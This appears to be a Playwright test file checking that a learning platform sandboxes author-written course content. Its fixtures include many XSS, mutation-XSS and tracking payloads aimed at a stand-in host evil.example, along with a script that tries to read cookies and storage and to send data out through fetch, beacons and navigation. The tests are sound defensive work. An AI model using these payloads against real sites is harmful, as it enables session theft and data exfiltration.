import { bakersHandbook } from '../../demo/seed/handbook';
import { expect, test, type Page } from './test';
import { idOf } from '../../demo/seed/id';
import { hosts } from './hosts';
import { complaints, signIn } from './people';

const content = `/learn/courses/${idOf('course', 'GEO-145')}/view/content`;
const EVIL = 'https://evil.example';
/** The call for the content of a part. */
const CONTENT = /\/activity\/[^/]+\/content$/;

/** Replaces the content of all parts by a text, and adds settings; all other responses are the platform's. */
async function write(page: Page, html: string, settings: Record<string, unknown> = {}) {
  await page.route(CONTENT, async (route) => {
    const answer = await route.fetch();
    await route.fulfill({ json: { ...((await answer.json()) as object), html } });
  });
  await page.route('**/settings/query*', async (route) => {
    const answer = await route.fetch();
    const { data } = (await answer.json()) as { data: object };
    await route.fulfill({ json: { data: { ...data, ...settings } } });
  });
}

/** Collects and aborts requests to other hosts than the demo. Requests that a policy blocks don't get here. */
async function foreign(page: Page): Promise<string[]> {
  const asked: string[] = [];
  const isOwn = (url: string) => Object.values(hosts).some((host) => url.startsWith(`${host}/`));
  await page.context().route(
    (url) => /^https?:$/.test(url.protocol) && !isOwn(url.href),
    (route) => {
      asked.push(route.request().url());
      return route.abort();
    },
  );
  return asked;
}

/**
 * Waits until the page has done its work: whatever content requests, it requests when it is put into the page. The network is never idle:
 * the place of the learner is sent by a request that outlives the page before.
 */
async function idle(page: Page) {
  await page.evaluate(() => new Promise((done) => requestIdleCallback(done)));
}

/** Markup that tries to make the reader's browser send requests. */
const tracking = [
  `<img src="${EVIL}/1.png">`,
  `<img src="//evil.example/2.png" srcset="${EVIL}/3.png 1x, ${EVIL}/4.png 2x">`,
  `<picture><source srcset="${EVIL}/5.webp"><img src="${EVIL}/6.png"></picture>`,
  `<video src="${EVIL}/7.mp4" poster="${EVIL}/8.png" autoplay></video><audio src="${EVIL}/9.mp3" autoplay></audio>`,
  `<video autoplay muted><source src="${EVIL}/10.mp4"><track default src="${EVIL}/11.vtt"></video>`,
  `<table background="${EVIL}/12.png"><tr><td background="${EVIL}/13.png">x</td></tr></table>`,
  `<p style="background:url(${EVIL}/14.png);list-style-image:url('${EVIL}/15.png')">x</p>`,
  `<p style="background-image:image-set('${EVIL}/16.png' 1x);cursor:url(${EVIL}/17.cur),auto;color:red">x</p>`,
  `<style>@import "${EVIL}/18.css"; @font-face{font-family:f;src:url(${EVIL}/19.woff)} *{font-family:f;background:url(${EVIL}/20.png)}</style>`,
  `<link rel=stylesheet href="${EVIL}/21.css"><link rel=preload as=image href="${EVIL}/22.png"><link rel=prefetch href="${EVIL}/23">`,
  `<link rel=icon href="${EVIL}/24.png"><link rel=preload as=image imagesrcset="${EVIL}/25.png 1x">`,
  `<link rel=modulepreload href="${EVIL}/26.js"><link rel=dns-prefetch href="${EVIL}"><link rel=preconnect href="${EVIL}">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}/27"><base href="${EVIL}/">`,
  `<img src="28.png">`,
  `<svg><image href="${EVIL}/29.png"/><image xlink:href="${EVIL}/30.png"/><use href="${EVIL}/31.svg#x"/></svg>`,
  `<svg><filter id=f><feImage href="${EVIL}/32.png"/></filter><rect width=9 height=9 filter="url(${EVIL}/33.svg#f)" fill="url(${EVIL}/34.svg#g)" cursor="url(${EVIL}/35.cur)"/></svg>`,
  `<svg><style>@import url(${EVIL}/36.css);</style><foreignObject><img src="${EVIL}/37.png"></foreignObject></svg>`,
  `<svg><animate attributeName=href to="${EVIL}/38.png"/><set attributeName=href to="${EVIL}/39.png"/></svg>`,
  `<iframe src="${EVIL}/40"></iframe><iframe srcdoc="<img src='${EVIL}/41.png'>"></iframe>`,
  `<object data="${EVIL}/43"></object><embed src="${EVIL}/44">`,
  `<form action="${EVIL}/45"><input type=image src="${EVIL}/46.png"><button>x</button></form>`,
  `<input type=image src="${EVIL}/47.png" autofocus onfocus="fetch('${EVIL}/48')">`,
  `<a ping="${EVIL}/49" href="#x" id=x>x</a><img longdesc="${EVIL}/50" lowsrc="${EVIL}/51.png" dynsrc="${EVIL}/52.avi">`,
  `<body background="${EVIL}/53.png"><bgsound src="${EVIL}/54.mp3"><applet code="${EVIL}/55.class"></applet>`,
  `<math><mi xlink:href="${EVIL}/56" href="javascript:fetch('${EVIL}/57')">x</mi></math>`,
  `<scr<style></style>ipt>fetch('${EVIL}/61')</scr<style></style>ipt><p style =\n"background:url(${EVIL}/62.png)" style='x'>x</p>`,
  `<p>\\(\\includegraphics{${EVIL}/63.png} \\href{${EVIL}/64}{x} \\htmlStyle{background:url(${EVIL}/65.png)}{x}\\)</p>`,
  `<div class="gallery"><img src="${EVIL}/66.png"><img src="${EVIL}/67.png"></div><span class="math">\\url{${EVIL}/68}</span>`,
];

/** The same, in markup that includes all text after it. */
const swallowing = [
  `<noscript><p title="</noscript><img src='${EVIL}/59.png'>"></noscript><template><img src="${EVIL}/60.png"></template>`,
  `<frameset><frame src="${EVIL}/42"></frameset>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src='${EVIL}/58.png' onerror=alert(1)&gt;">`,
];

/** Markup that tries to run scripts or to take over the page. */
const running = [
  `<script>window.pwned = 1; fetch('${EVIL}/s1')</script><script src="${EVIL}/s2.js"></script><script type=module>import '${EVIL}/s3.js'</script>`,
  `<img src=x onerror="window.pwned = 1"><svg onload="window.pwned = 1"></svg><details open ontoggle="window.pwned = 1"></details>`,
  `<a href="javascript:window.pwned = 1" id=go>x</a><a href="java&#10;script:window.pwned = 1">x</a>`,
  `<iframe src="javascript:parent.pwned = 1"></iframe><iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${EVIL}/s4"]}]}</script>`,
];
const START = '<p>The beginning</p>';
const END = '<p>The end</p>';

test('[RCV-08] with scripts off, nothing in content sends requests to other origins or runs in the page', async ({
  page,
}) => {
  await signIn(page, 'nora');
  const heard = complaints(page);
  const asked = await foreign(page);
  await write(page, [...tracking, ...running].join('\n') + END, { 'LMS.MediaBlock.AllowScripts': false });
  await page.goto(hosts.learn + content);
  await expect(page.getByText('The end')).toBeVisible();
  await page.getByText('The end').scrollIntoViewIfNeeded();
  await expect(page.locator('[part~=rich-content] .formula').first()).toBeAttached();
  await idle(page);
  expect(asked).toEqual([]);
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
  await expect(
    page.locator('[part~=rich-content]').locator('style, script, link, meta, base, form, object, embed'),
  ).toHaveCount(0);
  // The browser reports bases when they are parsed, even in an inert document.
  expect(heard.filter((text) => !/base URI/.test(text))).toEqual([]);
});

for (const [index, html] of swallowing.entries())
  test(`[RCV-08] with scripts off, markup that includes the text after it sends no requests to other origins (${index + 1})`, async ({
    page,
  }) => {
    await signIn(page, 'nora');
    const asked = await foreign(page);
    await write(page, `${START}${html}`, { 'LMS.MediaBlock.AllowScripts': false });
    await page.goto(hosts.learn + content);
    await expect(page.getByText('The beginning')).toBeVisible();
    await idle(page);
    expect(asked).toEqual([]);
  });

test('[RCV-08] with scripts on, they run in a frame without access to page, cookies, storage and network', async ({
  page,
}) => {
  await signIn(page, 'nora');
  const heard = complaints(page);
  const asked = await foreign(page);
  const script = `
    const results = {};
    const tried = (name, what) => { try { results[name] = String(what()); } catch (error) { results[name] = error.name; } };
    tried('cookie', () => document.cookie);
    tried('storage', () => localStorage.length);
    tried('session', () => sessionStorage.length);
    tried('database', () => indexedDB.open('x'));
    tried('parent', () => parent.document.title);
    tried('top', () => top.document.title);
    tried('origin', () => self.origin);
    tried('frame', () => frameElement);
    tried('popup', () => window.open('${EVIL}/a1'));
    tried('away', () => { top.location = '${EVIL}/a2'; });
    tried('beacon', () => navigator.sendBeacon('${EVIL}/a3', 'x'));
    fetch('${EVIL}/a4').catch(() => { results.fetch = 'refused'; report(); });
    fetch('/api/platform/v1/users/me', { credentials: 'include' }).catch(() => { results.own = 'refused'; report(); });
    new Image().src = '${EVIL}/a5.png';
    try { new WebSocket('wss://evil.example/a6'); } catch {}
    try { new EventSource('${EVIL}/a7'); } catch {}
    try { new Worker('${EVIL}/a8.js'); } catch {}
    document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${EVIL}/a9.css' }));
    document.head.append(Object.assign(document.createElement('script'), { src: '${EVIL}/a10.js' }));
    document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '${EVIL}/a11' }));
    document.body.append(Object.assign(document.createElement('iframe'), { src: '${EVIL}/a12' }));
    parent.postMessage({ type: 'link', href: '${EVIL}/a14' }, '*');
    top.postMessage({ protocol: 'learn-content-frame', version: 1 }, '*');
    const report = () => { document.getElementById('results').textContent = JSON.stringify(results); };
    report();`;
  await write(
    page,
    `<style>#results { color: rgb(1, 2, 3); }</style><p id="results"></p><p>${tracking.join('')}</p><p id="loud" onclick="this.textContent = 'pressed'">press</p>${END}<script>${script}</script>`,
    { 'LMS.MediaBlock.AllowScripts': true },
  );
  await page.goto(hosts.learn + content);
  const inside = page.frameLocator('.active-content').frameLocator('iframe');
  await expect(inside.getByText('The end')).toBeVisible();
  await expect(inside.locator('#results')).toContainText('"own":"refused"');
  await expect(inside.locator('#results')).toContainText('"fetch":"refused"');
  await expect(inside.locator('#results')).toHaveCSS('color', 'rgb(1, 2, 3)');
  expect(JSON.parse((await inside.locator('#results').textContent())!)).toMatchObject({
    cookie: 'SecurityError',
    storage: 'SecurityError',
    session: 'SecurityError',
    database: 'SecurityError',
    parent: 'SecurityError',
    top: 'SecurityError',
    origin: 'null',
    frame: 'null',
    popup: 'null',
    own: 'refused',
    fetch: 'refused',
  });
  await inside.locator('#loud').click();
  await expect(inside.locator('#loud')).toHaveText('pressed');
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
  expect(asked).toEqual([]);
  expect(new URL(page.url()).origin).toBe(hosts.learn);
  // The frame reports violations of its own policy; the page has none.
  const own = heard.filter(
    (text) => !/evil\.example|connect-src|Refused to connect|inline event handler|base URI/.test(text),
  );
  expect(own).toEqual([]);
});

test('[RCV-08] a frame can’t navigate away', async ({ page }) => {
  await signIn(page, 'nora');
  const asked = await foreign(page);
  await write(
    page,
    `<p>Here</p><form action="${EVIL}/form" method="post"></form><script>setInterval(() => { location = '${EVIL}/?secret'; document.forms[0].setAttribute('action', '${EVIL}/form'); document.forms[0].submit(); }, 50)</script>`,
    {
      'LMS.MediaBlock.AllowScripts': true,
    },
  );
  const refused = page.waitForEvent('console', (message) => message.text().includes('frame-src'));
  await page.goto(hosts.learn + content);
  await refused;
  expect(asked).toEqual([]);
});

test('[RCV-08] the author’s styles and scripts work, in a frame with the height of its content and the look of the page', async ({
  page,
}) => {
  await page.emulateMedia({ colorScheme: 'dark' });
  await signIn(page, 'nora');
  const heard = complaints(page);
  await page.goto(hosts.learn + content);
  await page.getByRole('link', { name: /How much fits on the sheet/ }).click();
  const frame = page.locator('.active-content');
  const inside = page.frameLocator('.active-content').frameLocator('iframe');
  await expect(inside.locator('#meaning')).toHaveText('1 : 25,000');
  await inside.getByRole('slider').press('ArrowRight');
  await expect(inside.locator('#meaning')).toHaveText('1 : 50,000');
  const high = await inside.locator('html').evaluate((page) => page.getBoundingClientRect().height);
  await expect.poll(async () => Math.abs((await frame.boundingBox())!.height - high)).toBeLessThan(2);
  expect(high).toBeGreaterThan(500);
  await expect(inside.locator('body')).toHaveCSS('color', 'rgb(238, 238, 236)');
  expect(heard).toEqual([]);
});

test('[RCV-08] toggles, galleries, formulas and links to PDFs work in a frame', async ({ page }) => {
  await signIn(page, 'nora');
  const heard = complaints(page);
  const asked = await foreign(page);
  const picture = (fill: string) =>
    `<figure><img alt="${fill}" src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' width='400' height='250'%3E%3Crect width='400' height='250' fill='${fill}'/%3E%3C/svg%3E"><figcaption>All ${fill}</figcaption></figure>`;
  await write(
    page,
    `<style>h3 { color: rgb(1, 2, 3); }</style><h3>Styled</h3><div class="toggle"><h4>More</h4><p>Hidden at first</p></div>
    <div class="gallery">${picture('teal')}${picture('olive')}</div><p>So \\(\\frac{1}{2}\\) and <span class="math">\\href{${EVIL}}{x}</span></p>
    <p><a href="/api/lms-storage/v1/files/rules.pdf">The rules</a></p>${picture('navy')}`,
    { 'LMS.MediaBlock.AllowScripts': true },
  );
  await page.goto(hosts.learn + content);
  const inside = page.frameLocator('.active-content').frameLocator('iframe');
  await expect(inside.getByRole('heading', { name: 'Styled' })).toHaveCSS('color', 'rgb(1, 2, 3)');
  await expect(inside.getByText('Hidden at first')).toBeHidden();
  await inside.getByText('More').click();
  await expect(inside.getByText('Hidden at first')).toBeVisible();
  await expect(inside.locator('mfrac')).toHaveCount(1);
  await expect(inside.locator('math a, math [href]')).toHaveCount(0);

  await expect(inside.getByText('1 of 2')).toBeVisible();
  await inside.getByRole('button', { name: 'Next picture' }).click();
  await expect(inside.getByText('2 of 2')).toBeVisible();
  await inside.locator('.slide-bar').getByRole('button', { name: 'Show in full screen' }).click();
  const gallery = page.getByRole('dialog').filter({ hasText: '2 of 2' });
  await expect(gallery.getByText('2 of 2')).toBeVisible();
  await expect(gallery.getByText('All olive')).toBeInViewport();
  await page.keyboard.press('Escape');
  await expect(gallery).toHaveCount(0);
  await inside.getByAltText('navy').click();
  await expect(page.getByRole('dialog', { name: 'navy' })).toBeVisible();
  await page.keyboard.press('Escape');

  await inside.getByRole('link', { name: 'The rules' }).click();
  await expect(page.getByRole('dialog').filter({ hasText: 'rules.pdf' })).toBeVisible();
  expect(asked).toEqual([]);
  expect(heard.filter((text) => !/A PDF was blocked|404/.test(text))).toEqual([]);
});

test('[RCV-08] content in a frame has code in colours, tables full screen, and PDFs in the text', async ({ page }) => {
  await signIn(page, 'nora');
  // The handbook belongs to a part that is still closed for this learner.
  const handbook = { contentType: 'application/pdf', body: Buffer.from(bakersHandbook()) };
  await page.route('**/handbook.pdf', (route) => route.fulfill(handbook));
  const heard = complaints(page);
  const asked = await foreign(page);
  await write(
    page,
    `<style>td { color: rgb(1, 2, 3); }</style>
    <pre><code class="language-python">def half(x):  # &lt;b&gt;
    return x / 2</code></pre><pre data-lang="cobol">MOVE 1 TO X.</pre>
    <table style="text-align: right"><caption>Tides</caption><tr><th>Port</th><td>4 m<img src=x onerror="window.pwned = 1"></td></tr></table>
    <table><tr><td><button onclick="this.textContent = 'Pressed'">Press</button></td></tr></table>
    <details><summary>Below</summary><p style="height: 400px">Tall</p></details>
    <p><a class="pdf" href="/api/lms-storage/v1/files/courses/${idOf('course', 'FOD-120')}/handbook.pdf#page=6">The handbook</a></p><p>and <a class="pdf" href="${EVIL}/x.pdf">Theirs</a></p>`,
    { 'LMS.MediaBlock.AllowScripts': true },
  );
  await page.goto(hosts.learn + content);
  const inside = page.frameLocator('.active-content').frameLocator('iframe');

  await expect(inside.locator('pre .hl-keyword').first()).toHaveText('def');
  const colourOf = (selector: string) =>
    inside
      .locator(selector)
      .first()
      .evaluate((each) => getComputedStyle(each).color);
  expect(await colourOf('pre .hl-keyword')).not.toBe(await colourOf('pre code'));
  await expect(inside.locator('pre').first()).toHaveText('def half(x):  # <b>\n    return x / 2');
  await expect(inside.getByRole('group', { name: 'Code: Python' })).toBeVisible();
  await expect(inside.getByRole('group', { name: 'Code: cobol' })).toHaveText('MOVE 1 TO X.');
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await inside.getByRole('button', { name: 'Copy the code' }).last().click();
  await expect(page.getByText('The code was copied')).toBeVisible();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('MOVE 1 TO X.');

  const table = inside.getByRole('region', { name: 'Tides' });
  await expect(table.getByRole('cell').last()).toHaveCSS('color', 'rgb(1, 2, 3)');
  await expect(inside.getByRole('button', { name: 'Open the table in full screen' })).toHaveCount(1);
  await inside.getByRole('button', { name: 'Open the table in full screen' }).click();
  const dialog = page.getByRole('dialog', { name: 'Tides' });
  await expect(dialog.getByRole('rowheader', { name: 'Port' })).toBeInViewport();
  await expect(dialog.locator('table')).toHaveCSS('text-align', 'right');
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
  await page.keyboard.press('Escape');
  await expect(dialog).toHaveCount(0);
  await inside.getByRole('button', { name: 'Press' }).click();
  await expect(inside.getByRole('button', { name: 'Pressed' })).toBeVisible();

  await expect(inside.getByText('This PDF can’t be shown because it isn’t stored on this platform.')).toBeVisible();
  const place = inside.locator('.pdf-place');
  const viewer = page.locator('.active-over .pdf-place');
  const fits = async () => {
    const [gap, shown] = [await place.boundingBox(), await viewer.boundingBox()];
    expect(shown).toEqual(gap);
  };
  await place.scrollIntoViewIfNeeded();
  await expect(viewer.locator('.pdf-page[data-page="6"]')).toBeInViewport();
  await expect(fits).toPass();
  await inside.getByText('Below').click();
  await expect(inside.getByText('Tall')).toBeVisible();
  await expect(fits).toPass();
  expect(asked).toEqual([]);
  expect(heard.filter((text) => !/A PDF was blocked|404|inline event handler/.test(text))).toEqual([]);
});

test('[RCV-08] toggles and galleries that an author’s script handles are not changed', async ({ page }) => {
  await signIn(page, 'nora');
  await write(
    page,
    `<div class="toggle"><b>Mine</b><p>Open</p></div><p id="results"></p><script>document.getElementById('results').textContent = document.querySelectorAll('div.toggle').length + ' toggle';</script>`,
    { 'LMS.MediaBlock.AllowScripts': true },
  );
  await page.goto(hosts.learn + content);
  const inside = page.frameLocator('.active-content').frameLocator('iframe');
  await expect(inside.getByText('1 toggle')).toBeVisible();
  await expect(inside.locator('div.toggle')).toHaveCount(1);
});

test('[RCV-08] a script from the platform’s files runs in the frame, with an absolute or a relative address', async ({
  page,
}) => {
  await signIn(page, 'nora');
  const FILES = '/api/lms-storage/v1/files/';
  await page.route(`**${FILES}*.js`, (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      headers: { 'cross-origin-resource-policy': 'cross-origin' },
      body: "document.body.append(document.currentScript.dataset.says + ' ran. ')",
    }),
  );
  const script = (src: string, says: string) => `<script src="${src}" data-says="${says}"></script>`;
  await write(
    page,
    START +
      script(`${FILES}a.js`, 'One') +
      script(`${hosts.learn}${FILES}b.js`, 'Two') +
      script(`https://cdn.example${FILES}c.js`, 'Three') +
      `<svg><script href="${FILES}d.js"></script></svg>`,
    { 'LMS.MediaBlock.AllowScripts': true },
  );
  await page.goto(hosts.learn + content);
  const inside = page.frameLocator('.active-content').frameLocator('iframe');
  await expect(inside.locator('body')).toContainText('The beginning');
  for (const says of ['One', 'Two', 'Three']) await expect(inside.locator('body')).toContainText(`${says} ran.`);
  await expect(page.getByText('Something went wrong')).toHaveCount(0);
});

test('[RCV-08] with scripts off there is no frame', async ({ page, request }) => {
  await signIn(page, 'nora');
  const answer = await request.get(`${hosts.learn}/api/lms/v1/content-frame`);
  const policy = answer.headers()['content-security-policy'];
  expect(policy).toContain('sandbox allow-scripts');
  expect(policy).toContain("connect-src 'none'");
  expect(policy).not.toContain('allow-same-origin');
});

test('[RCV-05] a copied link leads to the heading', async ({ page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await signIn(page, 'nora');
  await page.goto(hosts.learn + content);
  await page.getByRole('link', { name: /How far is it/ }).click();
  await page.getByRole('button', { name: 'Copy a link to “What the computer does not know”' }).click();
  await expect(page.getByText('The link was copied')).toBeVisible();
  const link = await page.evaluate(() => navigator.clipboard.readText());
  expect(link).toMatch(/\/view\/content\/[^#]+#what-the-computer-does-not-know$/);
  await page.goto('about:blank');
  await page.goto(link);
  const heading = page.getByRole('heading', { name: 'What the computer does not know' });
  await expect(heading).toBeFocused();
  await expect(heading).toBeInViewport();
});

test('[RCV-04] videos load when they are near, in the learner’s language, and other hosts get no requests', async ({
  page,
}) => {
  await signIn(page, 'nora');
  const asked = await foreign(page);
  await page.goto(hosts.learn + content);
  await page.getByRole('link', { name: /The round made flat/ }).click();
  await expect(page.getByText('Why all world maps are wrong').first()).toBeAttached();
  expect(asked).toEqual([]);
  await page.getByText('Why all world maps are wrong').first().scrollIntoViewIfNeeded();
  await expect
    .poll(() => asked)
    .toContain('https://www.youtube-nocookie.com/embed/kIID5FDi2JQ?hl=en&cc_lang_pref=en&start=12');
  await page.getByText('This page can’t be shown here.').scrollIntoViewIfNeeded();
  await expect.poll(() => asked).toContain('https://player.vimeo.com/video/1084537?texttrack=en');
  expect(asked.filter((url) => url.includes('maps.example'))).toEqual([]);
});

test('[RCV-08] a link within content in a frame leads to its place, however the place is named', async ({ page }) => {
  await signIn(page, 'nora');
  const filler = '<p>A line of the lesson.</p>'.repeat(80);
  await write(
    page,
    `<style>b{}</style><p><a href="#id">by id</a> <a href="#name">by name</a> <a href="#%C3%BC">encoded</a> <a href="#50%">plain</a></p>
    ${filler}<h3 id="id">Place one</h3>${filler}<p><a name="name"></a>Place two</p>${filler}<table><tr><td id="ü">Place three</td></tr></table>
    ${filler}<p id="50%">Place four</p>${filler}<p><a href="#top">to the top</a></p>`,
    { 'LMS.MediaBlock.AllowScripts': true },
  );
  await page.goto(hosts.learn + content);
  const inside = page.frameLocator('.active-content').frameLocator('iframe');
  for (const [name, place] of [
    ['by id', 'Place one'],
    ['by name', 'Place two'],
    ['encoded', 'Place three'],
    ['plain', 'Place four'],
  ] as const) {
    await inside.getByRole('link', { name }).click();
    await expect(inside.getByText(place)).toBeInViewport();
  }
  await inside.getByRole('link', { name: 'to the top' }).click();
  await expect(inside.getByRole('link', { name: 'by id' })).toBeInViewport();
});

test('[RCV-08] content in a frame keeps its texts, documents and formulas', async ({ page }) => {
  await signIn(page, 'nora');
  const heard = complaints(page);
  await write(
    page,
    `<style>b{color:rgb(1, 2, 3)}</style><p title="a <style> = b">one</p><style-guide>two</style-guide><b>three</b>
    <svg width="9" height="9"><style>rect{fill:rgb(4, 5, 6)}</style><rect width="9" height="9"/></svg>
    <object data="/api/lms-storage/v1/files/figures/map-plate.svg" type="image/svg+xml">Plate</object>
    <p>\\begin{equation}<br>x^2 = 4<br>\\end{equation} four</p><script>document.title = "<style>"</script>`,
    { 'LMS.MediaBlock.AllowScripts': true },
  );
  await page.goto(hosts.learn + content);
  const inside = page.frameLocator('.active-content').frameLocator('iframe');
  await expect(inside.getByText('one')).toHaveAttribute('title', 'a <style> = b');
  await expect(inside.getByText('two')).toBeVisible();
  await expect(inside.getByText('three')).toHaveCSS('color', 'rgb(1, 2, 3)');
  await expect(inside.locator('rect')).toHaveCSS('fill', 'rgb(4, 5, 6)');
  await expect(inside.getByAltText('Plate')).toHaveAttribute('src', /map-plate\.svg$/);
  await expect(inside.locator('math')).toHaveCount(1);
  await expect(inside.getByText('four')).toBeVisible();
  expect(heard).toEqual([]);
});
